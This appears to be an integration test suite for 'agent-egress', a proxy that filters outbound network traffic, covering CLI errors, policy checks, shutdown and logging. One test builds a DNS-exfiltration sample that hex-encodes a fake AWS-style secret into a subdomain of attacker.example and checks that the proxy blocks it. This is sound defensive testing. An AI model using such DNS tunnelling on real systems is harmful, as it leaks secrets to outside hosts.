import { execFile, spawn, type ChildProcess } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { promisify } from 'node:util';
import Database from 'better-sqlite3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestDnsServer, type TestDnsServer } from '../helpers/dns-server.js';
import { startHttpOrigin, type Origin } from '../helpers/origin.js';
import { alive } from '../helpers/process.js';
import { openRaw, rawExchange } from '../helpers/raw.js';
import { cli } from '../helpers/cli.js';

const run = promisify(execFile);
const ROOT = resolve(__dirname, '../..');
const BIN = join(ROOT, 'bin/agent-egress.js');
const dir = mkdtempSync(join(tmpdir(), 'ae-cli-'));

/** Start `serve` as a real process and wait until it says it listens. */
function serve(args: string[]): Promise<{ child: ChildProcess; stderr: () => string; exited: Promise<number | null> }> {
  return new Promise((resolveP, reject) => {
    const child = spawn('node', [BIN, 'serve', ...args], { stdio: ['ignore', 'pipe', 'pipe'] });
    let err = '';
    const exited = new Promise<number | null>((r) => child.once('exit', (code) => r(code)));
    const timer = setTimeout(() => reject(new Error(`serve did not start: ${err}`)), 15_000);
    child.stderr!.on('data', (d) => {
      err += d;
      if (err.includes('agent-egress proxy listening')) {
        clearTimeout(timer);
        resolveP({ child, stderr: () => err, exited });
      }
    });
    child.once('exit', () => {
      clearTimeout(timer);
      reject(new Error(`serve exited early: ${err}`));
    });
  });
}

let origin: Origin;
let dns: TestDnsServer;
beforeAll(async () => {
  origin = await startHttpOrigin();
  dns = await startTestDnsServer({ 'allowed.test': { A: ['127.0.0.1'] } });
});
afterAll(async () => {
  await origin?.close();
  await dns?.close();
});

describe('agent-egress CLI', () => {
  it('--help lists the commands and --version prints the version', async () => {
    const help = await cli(['--help']);
    expect(help.code).toBe(0);
    for (const c of ['serve', 'check', 'policy', 'log', 'firewall', 'certs']) expect(help.stdout).toContain(c);
    const v = await cli(['--version']);
    expect(v.stdout.trim()).toBe(JSON.parse(readFileSync(join(ROOT, 'package.json'), 'utf8')).version);
  });

  // Every usage error, in every command: one line on stderr naming the flag (or argument) and the cause,
  // nothing on stdout, exit 2. Serve cases add a port-0 listener so a regression cannot bind a real port.
  const SERVE = ['serve', '--listen', '127.0.0.1:0', '--no-store'];
  const usageErrors: [string[], string][] = [
    [[...SERVE, '--max-connections', 'abc'], '--max-connections'],
    [[...SERVE, '--max-connections-per-client', '0'], '--max-connections-per-client'],
    [[...SERVE, '--max-header-bytes', '1.5'], '--max-header-bytes'],
    [[...SERVE, '--headers-timeout', '10 parsecs'], '--headers-timeout'],
    [[...SERVE, '--shutdown-grace', '-1s'], '--shutdown-grace'],
    [[...SERVE, '--policy-poll', 'often'], '--policy-poll'],
    [[...SERVE, '--retention-size', 'lots'], '--retention-size'],
    [[...SERVE, '--alert-multiplier', 'abc'], '--alert-multiplier'],
    [[...SERVE, '--alert-threshold', 'x'], '--alert-threshold'],
    [[...SERVE, '--dns-rate-limit', 'x'], '--dns-rate-limit'],
    [[...SERVE, '--dns-cache-size', '-1'], '--dns-cache-size'],
    [[...SERVE, '--dns-refuse-code', 'servfail'], '--dns-refuse-code'],
    [[...SERVE, '--log-level', 'loud'], '--log-level'],
    [[...SERVE, '--firewall-metrics', 'pf'], '--firewall-metrics'],
    [[...SERVE, '--workers', 'many'], '--workers'],
    [[...SERVE, '--bogus'], '--bogus'],
    [[...SERVE, '--listen'], '--listen'],
    [['check', '--policy', join(ROOT, 'policies/default.yaml')], 'target'],
    [['check', '--nope', 'a.example:443'], '--nope'],
    [['check', 'a.example:443', 'extra'], 'argument'],
    [['policy', 'validate'], 'files'],
    [['policy', 'suggest', '--since', 'yesterday-ish', '--data-dir', dir], '--since'],
    [['policy', 'suggest', '--bogus'], '--bogus'],
    [['log', 'query', '--decision', 'maybe'], '--decision'],
    [['log', 'query', '--limit', 'abc', '--data-dir', dir], '--limit'],
    [['log', 'summary', '--since', 'whenever', '--data-dir', dir], '--since'],
    [['log', 'tail', '--url', 'not a url'], '--url'],
    [['log', 'verify', '--unknown'], '--unknown'],
    [['firewall', 'render', '--format', 'pf'], '--format'],
    [['firewall', 'render', '--proxy', 'no-port'], 'no-port'],
    [['firewall', 'apply', '--tool', 'pf'], '--tool'],
    [['firewall', 'check', '--backend', 'x'], '--backend'],
    [['certs', 'init', '--days', 'abc', '--dir', dir], '--days'],
    [['certs', 'init', '--san'], '--san'],
    [['certs', 'renew'], 'renew'],
    [['nope'], 'nope'],
  ];
  it.each(usageErrors)('usage error is one line and exit 2: %j', async (args, names) => {
    const r = await cli(args);
    expect({ code: r.code, stdout: r.stdout }).toEqual({ code: 2, stdout: '' });
    const lines = r.stderr.trimEnd().split('\n');
    expect(lines, r.stderr).toHaveLength(1);
    expect(lines[0]).toContain(names);
    expect(lines[0]).toMatch(/^agent-egress[a-z ]*: /);
  });

  it('help and version exit 0; a bare command group shows its help and exits 2', async () => {
    expect((await cli(['serve', '--help'])).code).toBe(0);
    expect((await cli(['log', 'query', '-h'])).code).toBe(0);
    const bare = await cli(['log']);
    expect(bare.code).toBe(2);
    expect(bare.stderr).toContain('query');
  });

  it('policy validate: 0 for the shipped policies, 2 with file:line:column for a bad one', async () => {
    const ok = await cli(['policy', 'validate', join(ROOT, 'policies/default.yaml')]);
    expect(ok.code).toBe(0);
    const bad = join(dir, 'bad.yaml');
    writeFileSync(bad, 'version: 1\nrules:\n  - name: x\n    action: allow\n    hosts: [ok.example]\n    ports: [70000]\n');
    const r = await cli(['policy', 'validate', bad]);
    expect(r.code).toBe(2);
    // The whole line: file, line 6 (the ports entry), a column, the path of the field and the cause.
    expect(r.stderr.trim()).toMatch(new RegExp(`^${bad.replace(/[/.]/g, '\\$&')}:6:\\d+: rules\\[0\\]\\.ports\\[0\\]: port 70000 is out of range`));
  });

  it('check: exit 0 allow, 1 deny, 2 bad input, without sending anything', async () => {
    const policy = join(ROOT, 'policies/default.yaml');
    const allow = await cli(['check', '--policy', policy, 'api.openai.com:443']);
    expect(allow.code).toBe(0);
    expect(allow.stdout).toMatch(/^ALLOW api\.openai\.com:443/);
    const deny = await cli(['check', '--policy', policy, 'https://pastebin.com/raw/x']);
    expect(deny.code).toBe(1);
    expect(deny.stdout).toMatch(/DENY pastebin\.com:443/);
    const json = await cli(['check', '--json', '--allow', '*.example.com', 'http://a.example.com/']);
    expect(JSON.parse(json.stdout)).toMatchObject({ verdict: 'deny', reason: 'no_rule', target: 'a.example.com:80' });
    const bad = await cli(['check', '--policy', policy, 'api.openai.com:443e1']);
    expect(bad.code).toBe(2);
  });

  it('check --resolve applies the address guard', async () => {
    dns.set('internal.test', { A: ['10.0.0.5'] });
    const r = await cli(['check', '--resolve', '--dns-server', `127.0.0.1:${dns.port}`, '--allow', 'internal.test', 'internal.test:443']);
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/private_address/);
  });

  it('serve refuses a bad policy with exit 2 and the cause, and never listens', async () => {
    const bad = join(dir, 'bad-serve.yaml');
    writeFileSync(bad, 'version: 1\nrules:\n  - name: x\n    action: allow\n    hosts: [ok.example]\n    cidrs: [10.0.0.1/8]\n');
    const r = await cli(['serve', '--policy', bad, '--listen', '127.0.0.1:0', '--no-store']);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`${bad}:6`);
  });

  it('serve: SIGTERM with a tunnel open drains, exits 0, and every decision is in the log and the store', async () => {
    const data = join(dir, 'data');
    const log = join(dir, 'decisions.log');
    const s = await serve([
      '--listen', '127.0.0.1:0', '--allow', `allowed.test:${origin.port}`, '--allow-address', '127.0.0.1/32',
      '--dns-server', `127.0.0.1:${dns.port}`, '--log-file', log, '--data-dir', data, '--admin-listen', '127.0.0.1:0',
      '--shutdown-grace', '500ms',
    ]);
    const port = Number(/"listen":"127\.0\.0\.1:(\d+)"/.exec(s.stderr())![1]);
    for (let i = 0; i < 20; i++) {
      expect(await rawExchange(port, `CONNECT blocked${i}.test:443 HTTP/1.1\r\nHost: blocked${i}.test:443\r\n\r\n`)).toMatch(/^HTTP\/1\.1 403 /);
    }
    const t = await openRaw(port);
    t.socket.write(`CONNECT allowed.test:${origin.port} HTTP/1.1\r\nHost: allowed.test:${origin.port}\r\n\r\n`);
    expect(await t.read('\r\n\r\n')).toMatch(/^HTTP\/1\.1 200 /);
    s.child.kill('SIGTERM');
    expect(await s.exited).toBe(0);
    const lines = readFileSync(log, 'utf8').trim().split('\n').map((l) => JSON.parse(l));
    expect(lines).toHaveLength(21);
    expect(lines.filter((l) => l.reason === 'no_rule')).toHaveLength(20);
    expect(lines.find((l) => l.host === 'allowed.test')).toMatchObject({ verdict: 'allow', status: 200 });
    const db = new Database(join(data, 'decisions.sqlite'), { readonly: true });
    const n = db.prepare('SELECT COUNT(*) AS n FROM decisions').get() as { n: number };
    db.close();
    expect(n.n).toBe(21);
    const q = await cli(['log', 'query', '--data-dir', data, '--decision', 'deny', '--since', '10m', '--json']);
    expect(q.code).toBe(0);
    expect(q.stdout.trim().split('\n')).toHaveLength(20);
  });

  it('serve --dns-listen: an allowed name resolves, an exfiltration-style name gets NXDOMAIN and never reaches upstream', async () => {
    dns.set('api.allowed.test', { A: ['93.184.216.34'] });
    const s = await serve([
      '--listen', '127.0.0.1:0', '--allow', '*.allowed.test', '--dns-listen', '127.0.0.1:0', '--dns-server', `127.0.0.1:${dns.port}`,
      '--no-store', '--no-decision-log',
    ]);
    try {
      const dnsPort = /"dns":\["127\.0\.0\.1:(\d+)"\]/.exec(s.stderr())![1];
      const ok = await run('dig', ['+short', '+time=2', '+tries=1', '@127.0.0.1', '-p', dnsPort, 'api.allowed.test'], { encoding: 'utf8' });
      expect(ok.stdout.trim()).toBe('93.184.216.34');
      const secret = Buffer.from('AKIA-secret-to-leak').toString('hex');
      const before = dns.queries.length;
      const bad = await run('dig', ['+time=2', '+tries=1', '@127.0.0.1', '-p', dnsPort, `${secret}.attacker.example`], { encoding: 'utf8' });
      expect(bad.stdout).toMatch(/status: NXDOMAIN/);
      expect(dns.queries.slice(before).some((q) => q.name.includes(secret))).toBe(false);
    } finally {
      s.child.kill('SIGTERM');
      await s.exited;
    }
  });

  it('npx agent-egress serve: SIGTERM to npx stops the proxy too (no orphan with PPID 1)', async () => {
    // The real tree a user gets: npm exec -> sh -c -> node bin/agent-egress.js.
    const npx = spawn('npm', ['exec', '--offline', '--yes', '--', 'agent-egress', 'serve', '--listen', '127.0.0.1:0', '--no-store', '--no-admin', '--no-decision-log'], {
      cwd: ROOT,
      stdio: ['ignore', 'ignore', 'pipe'],
    });
    let err = '';
    npx.stderr!.on('data', (d) => (err += d));
    const ppidOf = (pid: number) => Number(readFileSync(`/proc/${pid}/stat`, 'utf8').replace(/^.*\) /, '').split(' ')[1]);
    let proxyPid = 0;
    try {
      for (let i = 0; i < 120 && !err.includes('agent-egress proxy listening'); i++) await new Promise((r) => setTimeout(r, 250));
      proxyPid = Number(/"pid":(\d+)[^\n]*agent-egress proxy listening/.exec(err)![1]);
      expect(proxyPid).not.toBe(npx.pid);
      // Not npx's direct child: a shell sits between them, which is why the signal never arrived.
      const shell = ppidOf(proxyPid);
      expect(ppidOf(shell)).toBe(npx.pid);
      npx.kill('SIGTERM');
      for (let i = 0; i < 60 && alive(proxyPid); i++) await new Promise((r) => setTimeout(r, 250));
      expect(alive(proxyPid)).toBe(false);
      expect(err).toMatch(/"signal":"SIGTERM"[^\n]*shutting down/);
      expect(err).toMatch(/"msg":"stopped"/);
    } finally {
      if (proxyPid && alive(proxyPid)) process.kill(proxyPid, 'SIGKILL');
      npx.kill('SIGKILL');
    }
  });

  describe('operational log: pretty on a terminal, JSON on a pipe, loud in report mode', () => {
    const reportPolicy = join(dir, 'report.yaml');
    const enforcePolicy = join(dir, 'enforce.yaml');
    beforeAll(() => {
      writeFileSync(reportPolicy, 'version: 1\nmode: report\nrules: []\n');
      writeFileSync(enforcePolicy, 'version: 1\nmode: enforce\nrules: []\n');
    });
    const ARGS = ['--listen', '127.0.0.1:0', '--no-store', '--no-admin', '--no-decision-log'];

    /** serve under a real pseudo-terminal (util-linux script); returns what the terminal showed once `until` appears. */
    async function onTerminal(extra: string[], until: RegExp, env: NodeJS.ProcessEnv = {}): Promise<string> {
      const cmd = ['node', BIN, 'serve', ...ARGS, ...extra].map((a) => `'${a}'`).join(' ');
      const child = spawn('script', ['-qfec', cmd, '/dev/null'], { stdio: ['pipe', 'pipe', 'pipe'], detached: true, env: { ...process.env, NO_COLOR: '', ...env } });
      let out = '';
      child.stdout!.on('data', (d) => (out += d));
      const exited = new Promise((r) => child.once('exit', r));
      try {
        for (let i = 0; i < 120 && !until.test(out); i++) await new Promise((r) => setTimeout(r, 250));
        return out;
      } finally {
        process.kill(-child.pid!, 'SIGTERM');
        await exited;
      }
    }

    it('on a terminal: coloured human lines, and the REPORT MODE warning', async () => {
      const out = await onTerminal(['--policy', reportPolicy], /REPORT MODE/);
      const lines = out.split(/\r?\n/).filter(Boolean);
      expect(lines.length).toBeGreaterThanOrEqual(2);
      expect(lines.filter((l) => l.startsWith('{'))).toEqual([]);
      expect(out).toMatch(/\d\d:\d\d:\d\d\.\d{3}\x1b\[0m \x1b\[32mINFO \x1b\[0m agent-egress proxy listening .*listen=\x1b\[0m127\.0\.0\.1:\d+/);
      expect(out).toMatch(/\x1b\[1;33mWARN \x1b\[0m \x1b\[1;33mREPORT MODE: nothing is blocked/);
    });

    it('on a terminal, --log-format json (or the env var) forces JSON; NO_COLOR drops the colours', async () => {
      const json = await onTerminal(['--policy', enforcePolicy, '--log-format', 'json'], /proxy listening/);
      expect(JSON.parse(json.split(/\r?\n/).find((l) => l.includes('proxy listening'))!)).toMatchObject({ level: 30, msg: 'agent-egress proxy listening' });
      const viaEnv = await onTerminal(['--policy', enforcePolicy], /proxy listening/, { AGENT_EGRESS_LOG_FORMAT: 'json' });
      expect(viaEnv).toMatch(/^\{"level":30/m);
      const plain = await onTerminal(['--policy', enforcePolicy], /proxy listening/, { NO_COLOR: '1' });
      expect(plain).toMatch(/^\d\d:\d\d:\d\d\.\d{3} INFO  agent-egress proxy listening listen=127\.0\.0\.1:\d+/m);
      expect(plain).not.toContain('\x1b[');
      expect(plain).not.toContain('REPORT MODE');
    });

    it('on a pipe: JSON lines, the report-mode warning among them; --log-format pretty forces human lines', async () => {
      const s = await serve([...ARGS, '--policy', reportPolicy]);
      // 'exit' may come before the last stderr bytes: read what was written while it runs.
      for (let i = 0; i < 40 && !s.stderr().includes('REPORT MODE'); i++) await new Promise((r) => setTimeout(r, 100));
      s.child.kill('SIGTERM');
      await s.exited;
      const lines = s.stderr().trim().split('\n').map((l) => JSON.parse(l));
      expect(lines.find((l) => l.level === 40)).toMatchObject({ msg: expect.stringMatching(/^REPORT MODE: nothing is blocked/) });
      const p = await serve([...ARGS, '--policy', enforcePolicy, '--log-format', 'pretty']);
      p.child.kill('SIGTERM');
      await p.exited;
      expect(p.stderr()).toMatch(/^\S+ \S*INFO \S* agent-egress proxy listening/m);
      expect(p.stderr()).not.toMatch(/^\{/m);
    });
  });

  it('register.cjs makes Node 20 fetch go through the proxy named by HTTP_PROXY', async () => {
    const s = await serve([
      '--listen', '127.0.0.1:0', '--allow', `allowed.test:${origin.port}`, '--allow-address', '127.0.0.1/32',
      '--dns-server', `127.0.0.1:${dns.port}`, '--no-store', '--log-file', join(dir, 'reg.log'),
    ]);
    try {
      const port = Number(/"listen":"127\.0\.0\.1:(\d+)"/.exec(s.stderr())![1]);
      // allowed.test exists only in the proxy's DNS: an answer proves the request went through the proxy.
      const script = `fetch('http://allowed.test:${origin.port}/').then(r => r.text()).then(t => console.log(t)).catch(e => { console.error(e.cause?.code ?? e.message); process.exit(3); })`;
      const env = { ...process.env, HTTP_PROXY: `http://127.0.0.1:${port}`, NODE_OPTIONS: `--require ${join(ROOT, 'register.cjs')}` };
      const r = await run('node', ['-e', script], { encoding: 'utf8', env, timeout: 15_000 });
      expect(r.stdout.trim()).toBe('hello');
      const without = await run('node', ['-e', script], { encoding: 'utf8', env: { ...env, NODE_OPTIONS: '' }, timeout: 15_000 }).catch((e) => e);
      expect(without.code).toBe(3);
    } finally {
      s.child.kill('SIGTERM');
      await s.exited;
    }
  });
});
